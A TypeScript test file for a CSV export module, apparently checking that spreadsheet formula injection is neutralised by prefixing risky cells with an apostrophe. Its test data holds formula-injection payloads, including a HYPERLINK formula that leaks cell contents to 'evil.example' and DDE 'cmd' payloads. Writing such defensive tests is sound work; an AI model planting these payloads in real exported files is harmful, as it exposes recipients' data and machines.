import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cellOf, csvLines, number, plain, text } from './csv.ts'

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
]

/** What any reader might take for the end of a line. */
const ANY_LINE_END = ['\r\n', '\n', '\r']

const cell = (value: string | null, column = text<string | null>((row) => row)) => cellOf(column, value)

/** As it is read where this sign separates. By another than ours quotes stand anywhere in what is taken for a cell, and hold nothing together. */
function cellsFor(file: string, delimiter: string): string[] {
  const rows: string[][] = parse(file, { delimiter, record_delimiter: ANY_LINE_END, relax_column_count: true, ...(delimiter === ',' ? {} : { quote: false }) })
  return rows.flat()
}
const isFormula = (value: string) => /^[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(value)

describe('a cell that a spreadsheet would take for a formula', () => {
  test.each(FORMULAS)('is a text: %j', (value) => {
    const safe = value.replace(/[=+\-@＝＋－＠]/, `'$&`)
    expect(cell(value)).toBe(safe)
    const [[read]] = parse(csvLines([[cell(value)]]), { record_delimiter: ANY_LINE_END }) as [[string]]
    expect(read).toBe(safe)
  })

  test.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; \u00A0=1+1;+2', "x; \u00A0'=1+1;'+2"],
    ['x\t-1', "x\t'-1"],
    ['x\n=1', "x\n'=1"],
    ['x\r\n@SUM(1)', "x\r\n'@SUM(1)"],
    [' =1', " '=1"],
    ['\u00A0=1', "\u00A0'=1"],
    ['\uFEFF\u200B＝1', "\uFEFF\u200B'＝1"],
    ['";"=1', `";"'=1`],
  ])('is a text also where other languages separate, and behind what nobody sees: %j', (value, safe) => {
    expect(cell(value)).toBe(safe)
    for (const delimiter of [',', ';', '\t']) expect(cellsFor(csvLines([['a', cell(value), 'b']]), delimiter).filter(isFormula)).toEqual([])
  })

  test.each(['-12.50', '-5', '0', '1000000000000000000', '12.5'])('is none when it is the plain number %s of a column of numbers', (value) => {
    expect(cell(value, number((row) => row))).toBe(value)
  })

  test.each(['-12.50', '+84 90 123 45 67', '-'])('is one in a column of texts: %s', (value) => {
    expect(cell(value)).toBe(`'${value}`)
  })

  test.each(['-1+1', '-', '--1', '=1', '-1e5', '-1,5', '- 1', '-1\n', '+1'])('is one in a column of numbers that holds no plain number: %j', (value) => {
    expect(cell(value, number((row) => row))).toBe(`'${value}`)
  })

  test.each(['', 'a=1', ' ', 'Nguyễn', '12', 'x-1', "'=1"])('is nothing else: %j', (value) => expect(plain(value)).toBe(value))

  test('never gets into a file, whatever people write and whatever separates where it is opened', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '＝', ';', '\t', '\r', '\n', ',', '"', "'", ' ', '\u00A0', '\uFEFF', '\u200B', 'x', '1')
    const anything = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.string({ unit: piece }), fc.constantFrom(...FORMULAS, '"', ',', '\r\n', '', '-1'))
    fc.assert(
      fc.property(fc.array(fc.array(anything, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 }), (rows) => {
        const cells = rows.map((row) => row.map((value) => cell(value)))
        const read: string[][] = parse(csvLines(cells), { record_delimiter: ANY_LINE_END })
        expect(read).toEqual(cells)
        for (const delimiter of [',', ';', '\t']) expect(cellsFor(csvLines(cells), delimiter).filter(isFormula)).toEqual([])
        // Nobody's text is lost: apostrophes apart it is what was there.
        const bare = (of: string[][]) => of.map((row) => row.map((value) => value.replaceAll("'", '')))
        expect(bare(read)).toEqual(bare(rows))
      }),
    )
  })
})

describe('lines', () => {
  test('end in CRLF, and quote what has to be quoted', () => {
    expect(csvLines([['a;b', 'c\td']])).toBe('"a;b","c\td"\r\n')
    expect(csvLines([['a', 'b,c', 'say "x"'], ['1\n2', '', '3\r4']])).toBe('a,"b,c","say ""x"""\r\n"1\n2",,"3\r4"\r\n')
  })

  test('of one empty cell are no empty lines, which readers would skip', () => {
    expect(parse(csvLines([['name'], [''], ['x']]), { record_delimiter: ANY_LINE_END, skip_empty_lines: true })).toEqual([['name'], [''], ['x']])
  })

  test('of nothing are nothing', () => expect(csvLines([])).toBe(''))
})
